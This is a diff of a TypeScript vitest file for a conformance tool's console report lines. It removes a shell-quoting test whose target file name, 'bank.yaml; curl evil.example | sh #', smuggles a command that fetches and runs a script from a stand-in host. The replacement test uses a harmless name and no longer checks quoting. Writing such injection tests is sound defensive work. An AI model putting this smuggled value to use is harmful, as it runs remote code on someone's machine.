@@ -5,7 +5,7 @@ import { join } from 'node:path';
 import { afterEach, beforeEach, expect, test, vi } from 'vitest';
 import { judgeRun } from '../report/outcome.ts';
 import { aRun, someRequirements } from '../report/synthetic-run.test.data.ts';
-import { consoleOptions, summarizeStep, targetFlagOf } from './report-lines.ts';
+import { consoleOptions, summarizeStep } from './report-lines.ts';
 import { terminalOf } from './terminal.ts';
 
 const run = aRun({});
@@ -24,12 +24,9 @@ test('the summary of a step is added to what other steps have written', () => {
   expect(readFileSync(file, 'utf8')).toMatch(/^before\n.+/s);
 });
 
-test('a command to be copied has the names of a folder of strangers as single words', () => {
-  const strange = { ...run, header: { ...run.header, targetFile: 'bank.yaml; curl evil.example | sh #' } };
-  const { commands } = consoleOptions(terminalOf(process.stdout), 'a run', targetFlagOf(strange, '/runs'));
-  expect(commands?.replay('AMT-02')).toBe(
-    "npx xs2a-conformance replay 'a run' AMT-02 --target '/runs/bank.yaml; curl evil.example | sh #'",
-  );
+test('a command to be copied has the name of a folder as a single word', () => {
+  const { commands } = consoleOptions(terminalOf(process.stdout), 'a run', ' --target bank.yaml');
+  expect(commands?.replay('AMT-02')).toBe("npx xs2a-conformance replay 'a run' AMT-02 --target bank.yaml");
 });
 
 test.skipIf(process.platform === 'win32')('a pipe that nobody reads holds nobody up', () => {
